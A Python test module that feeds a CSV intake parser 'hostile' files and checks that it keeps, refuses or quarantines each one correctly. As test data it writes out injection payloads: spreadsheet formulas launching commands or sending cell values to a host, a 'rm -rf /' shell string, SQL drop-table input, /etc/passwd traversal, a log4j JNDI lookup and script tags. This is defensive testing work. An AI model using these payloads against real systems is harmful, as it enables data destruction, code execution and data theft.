"""Hostile CSV."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

from tests.hostile.case import Case, Row, later
from tests.unit.intake.builders import field

HEAD = "Ref,Text,Amount\n"
GOOD: Row = ("z", "last", "1.00")
TAIL = "z,last,1.00\n"


def accepted(name: str, body: str | bytes, *rows: Row, **options) -> Case:
    """A file of header, body and one good last row, which must survive everything before it."""
    data = body if isinstance(body, bytes) else (HEAD + body + TAIL).encode(options.pop("encode", "utf-8"))
    return Case(name, data, rows=[*rows, *([] if isinstance(body, bytes) else [GOOD])], **options)


def refused(name: str, body: str | bytes, says: str, **options) -> Case:
    data = body if isinstance(body, bytes) else (HEAD + body + TAIL).encode(options.pop("encode", "utf-8"))
    return Case(name, data, says=says, **options)


def texts() -> Iterator[Case]:
    """Cells that are only text, however they look to a spreadsheet, a shell, a browser or a template."""
    for name, cell in {
        "formula_equals": "=cmd|' /C calc'!A0",
        "formula_plus": "+1+1",
        "formula_minus": "-2+3",
        "formula_at": "@SUM(A1:A9)",
        "formula_hyperlink": '=HYPERLINK("http://example.test?x="&A1)',
        "html": "<script>alert(1)</script>",
        "html_attribute": '" onmouseover="alert(1)',
        "jinja": "{{ 7*7 }}{% for x in y %}",
        "sql": "x'); drop table rows; --",
        "sql_comment": "/* */ -- '' \"\" ;",
        "shell": "$(rm -rf /) `id` ; | &",
        "path": "../../../../etc/passwd",
        "format_string": "%s%n{0.__class__}",
        "log4j": "${jndi:ldap://example.test/a}",
        "na": "NA",
        "no": "NO",
        "null_word": "NULL",
        "true_word": "true",
        "exponent": "3E001",
        "leading_zeros": "000123",
        "nan_word": "NaN",
        "excel_date": "45292",
        "quote_inside": 'a "b" c',
        "backslash": "a\\nb\\",
        "hash_comment": "# no comment",
        "emoji": "\U0001f600\U0001f1e6\U0001f1f9",
        "combining": "e\u0301\u0301\u0301" * 40,
        "rtl_script": "شركة الاستيراد",
        "astral": "\U00020000\U0010fffd",
        "replacement": "\ufffd",
        "line_break": "a\nb\n\nc",
        "carriage_return_in_cell": "a\rb",
        "delimiter_inside": "a,b,,c",
        "only_quotes": '""',
        "long_text": "x" * 500_000,
    }.items():
        out = io.StringIO()
        csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\n").writerow(["r", cell, "2.50"])
        yield accepted(f"text_{name}", out.getvalue(), ("r", cell, "2.50"))


def hidden() -> Iterator[Case]:
    """Characters that nobody sees: kept as they are, and said."""
    for name, cell in {
        "right_to_left_override": "invoice\u202efdp.exe",
        "bidi_isolate": "a\u2067b\u2069c",
        "zero_width_space": "pass\u200bword",
        "zero_width_joiner": "a\u200db",
        "byte_order_mark_inside": "a\ufeffb",
        "word_joiner": "a\u2060b",
        "tag_characters": "a\U000e0041\U000e0042",
        "escape_sequence": "\x1b[31mred\x1b[0m",
        "bell_and_backspace": "a\x07b\x08",
        "delete": "a\x7fb",
        "c1_control": "a\x85b",
        "soft_hyphen": "ex\xadport",
        "line_separator": "a\u2028b",
        "vertical_tab": "a\x0bb",
    }.items():
        yield accepted(f"hidden_{name}", f'r,"{cell}",2.50\n', ("r", cell, "2.50"), hidden=(1,))
    yield accepted("hidden_persian_joiner_is_spelling", "r,می\u200cخواهم,2.50\n", ("r", "می\u200cخواهم", "2.50"))


def encodings() -> Iterator[Case]:
    umlaut, cyrillic, arabic, turkish = "Müller €", "Экспорт", "شركة", "İşğç"
    yield accepted("bom", b"\xef\xbb\xbf" + (HEAD + TAIL).encode(), GOOD)
    for codec, text in (
        ("cp1252", umlaut), ("cp1251", cyrillic), ("cp1256", arabic), ("iso-8859-9", turkish), ("utf-16", cyrillic),
        ("utf-16-le", cyrillic), ("utf-16-be", cyrillic), ("cp850", "Müller"), ("shift_jis", "輸出"),
        ("gb18030", "出口"), ("utf-32", cyrillic),
    ):  # fmt: skip
        yield accepted(
            f"encoding_{codec}", f"r,{text},1.50\n", ("r", text, "1.50"), reader={"encoding": codec}, encode=codec
        )
    yield refused("cp1252_as_utf8", f"r,{umlaut},1\n", r"0xfc at offset 19", encode="cp1252")
    yield refused("utf16_as_utf8", f"r,{umlaut},1\n", "UTF-16|utf-8", encode="utf-16")
    yield refused("utf8_as_utf16", f"r,{cyrillic},1\n", "utf-16", reader={"encoding": "utf-16"})
    yield refused(
        "mixed_encodings", (HEAD + "r,Müller,1\n").encode() + "s,Müller,2\n".encode("cp1252"), "0xfc at offset"
    )
    yield refused("overlong_slash", HEAD.encode() + b"r,\xc0\xaf,1\n", "0xc0 at offset 18")
    yield refused("surrogate_in_utf8", HEAD.encode() + b"r,\xed\xa0\x80,1\n", "0xed at offset 18")
    yield refused("truncated_character", HEAD.encode() + b"r,x,1\ns,\xe2\x82", "0xe2 at offset 24")
    yield refused("cut_utf16", (HEAD + TAIL).encode("utf-16-le")[:-1], "utf-16-le", reader={"encoding": "utf-16-le"})
    yield refused(
        "undefined_in_cp1252", HEAD.encode() + b"r,\x81,1\n", "0x81 at offset 18", reader={"encoding": "cp1252"}
    )
    yield refused("bom_twice", b"\xef\xbb\xbf\xef\xbb\xbf" + (HEAD + TAIL).encode(), "lacks `Ref`")


def shapes() -> Iterator[Case]:
    """Line ends, quotation marks and numbers of cells."""
    yield accepted("line_ends_mixed", (HEAD + "a,b,1\r\nc,d,2\n").encode(), ("a", "b", "1.00"), ("c", "d", "2.00"))
    yield accepted("line_ends_old_mac", (HEAD + "a,b,1\n").replace("\n", "\r").encode(), ("a", "b", "1.00"))
    yield accepted("no_last_line_end", (HEAD + "a,b,1").encode(), ("a", "b", "1.00"))
    yield accepted("ctrl_z", (HEAD + "a,b,1\n\x1a").encode(), ("a", "b", "1.00"))
    yield accepted("empty_lines", "\n\na,b,1\n\n", ("a", "b", "1.00"))
    yield accepted("empty_cells", ",,\n", (None, None, None))
    yield accepted("quoted_empty", '"","",""\n', (None, None, None))
    yield accepted("reordered", b"Amount,Ref,Text\n1,a,b\n", ("a", "b", "1.00"))
    yield accepted("header_in_quotes", b'"Ref","Text","Amount"\na,b,1\n', ("a", "b", "1.00"))
    yield refused("quote_never_closed", 'a,"b,1\n' + "c,d,2\n" * 500, r"line \d+.*quotation mark")
    yield refused("quote_closed_early", 'a,"b"c,1\n', "line 2.*quotation mark|line 2.*cells")
    yield refused("quote_in_the_middle_shifts", 'a,"b\n",x,1\n', "line [23].*cells")
    yield refused("too_many_cells", "a,b,1,2\n", "line 2: 4 cells where the header has 3")
    yield refused("too_few_cells", "a,b\n", "line 2: 2 cells where the header has 3")
    yield refused("last_line_cut", (HEAD + "a,b,1\nc,d").encode(), "line 3: 2 cells")
    yield refused("semicolons", b"Ref;Text;Amount\na;b;1\n", "the header on line 1 lacks `Ref`, `Text`, `Amount`")
    yield refused("ten_thousand_columns", (",".join(f"c{n}" for n in range(10_000)) + "\n").encode(), "and 9988 more")
    yield refused("ten_thousand_cells", "a,b,1" + "," * 10_000 + "x\n", "line 2: 4 cells where the header has 3")
    yield accepted("empty_cells_beyond_the_last_column", "a,b,1" + "," * 10_000 + "\n", ("a", "b", "1.00"))
    yield refused("carriage_return_outside_quotes", "a,b\rc,1\n", "line 2: 2 cells")
    yield refused(
        "line_of_ten_million", "a," + "x" * 10_000_000 + ",1\n", "line 2: the line has more than 2,000,000 bytes"
    )
    yield refused("header_of_ten_million", b"R" * 10_000_000, "the header on line 1")
    yield refused("nul", "a,b\0c,1\n", r"NUL byte at offset 19 \(line 2\)")
    yield refused("only_nuls", b"\0" * 4096, "NUL byte at offset 0")
    yield refused("nothing", b"", "is empty")
    yield refused("only_line_ends", b"\n\n\n\n", "5 lines, all of them empty; expected its header")
    yield refused("only_a_bom", b"\xef\xbb\xbf", "lines")
    yield refused("png", b"\x89PNG\r\n\x1a\n", "is an image")
    yield refused("gzip", b"\x1f\x8b\x08\x00", "gzip")
    yield refused("workbook", b"PK\x03\x04", "a zip archive or a workbook")
    yield refused("end_marker_missing", "a,b,1\n", "end marker", reader={"endMarker": "EOF"})


def headers() -> Iterator[Case]:
    for name, header in {
        "sql": '"Ref""; drop table x; --",Text,Amount',
        "html": "<b>Ref</b>,Text,Amount",
        "hidden": "R\u200bef,Text,Amount",
        "bidi": "\u202eferR,Text,Amount",
        "duplicate": "Ref,Ref,Text,Amount",
        "duplicate_by_case": "Ref,ref,Text,Amount",
        "missing": "Ref,Amount",
        "unknown": "Ref,Text,Amount,Extra",
        "empty_name": "Ref,,Text,Amount",
        "cyrillic_look_alike": "Rеf,Text,Amount",
        "newline": '"Re\nf",Text,Amount',
        "template": "{{ config }},Text,Amount",
        "control": "Ref\x1b[2J,Text,Amount",
        "internal_name": "_after_the_last_delimiter,Text,Amount",
    }.items():
        yield Case(f"header_{name}", f"{header}\n".encode(), says="the header on line 1 (lacks|has|names)")


def numbers() -> Iterator[Case]:
    for name, cell in {
        "nan": "NaN", "infinity": "Infinity", "exponent": "1E400", "hex": "0x1F", "underscore": "1_000",
        "comma": '"1,5"', "two_points": "1.2.3", "three_decimals": "1.005", "forty_digits": "9" * 40,
        "million_digits": "9" * 100_000, "full_width": "１２", "arabic_digits": "١٢", "minus_sign": "−1",
        "blank": "1 2",
        "formula": "=1+1", "currency": "€5", "trailing_minus": "5-",
    }.items():  # fmt: skip
        yield Case(
            f"number_{name}",
            (HEAD + f"a,b,{cell}\n" + TAIL).encode(),
            rows=[GOOD],
            quarantined={1: "amount_is_a_decimal"},
        )
    yield accepted("number_zeros", "a,b,000000000000000000001.50000\n", ("a", "b", "1.50"))
    yield accepted("number_in_blanks", "a,b,\u00a0 7 \u200b\n", ("a", "b", "7.00"))
    yield accepted("number_negative_zero", "a,b,-0\n", ("a", "b", "0.00"))


def sizes() -> Iterator[Case]:
    yield Case("rows_200_000", later(lambda: HEAD + "a,b,1\n" * 200_000), count=200_000)
    yield Case("columns_400", wide(400), rows=[tuple("x" for _ in range(400))], fields=[
        field(f"c{n}") for n in range(400)])  # fmt: skip
    yield Case("empty_lines_million", (HEAD + "\n" * 1_000_000 + TAIL).encode(), rows=[GOOD])
    yield Case("long_cells", later(lambda: HEAD + f'a,"{"y" * 100_000}",1\n' * 200), count=200)


def wide(columns: int) -> bytes:
    return (",".join(f"c{n}" for n in range(columns)) + "\n" + ",".join("x" for _ in range(columns)) + "\n").encode()


CASES = [*texts(), *hidden(), *encodings(), *shapes(), *headers(), *numbers(), *sizes()]


def count(path: Path, case: Case) -> int:
    """The records by Python's own csv module."""
    csv.field_size_limit(1 << 30)
    codec = case.reader.get("encoding", "utf-8-sig")
    with path.open(encoding=codec, newline="") as file:
        rows = list(csv.reader(line.rstrip("\x1a") for line in file))
    return sum(1 for row in rows[1:] if row)
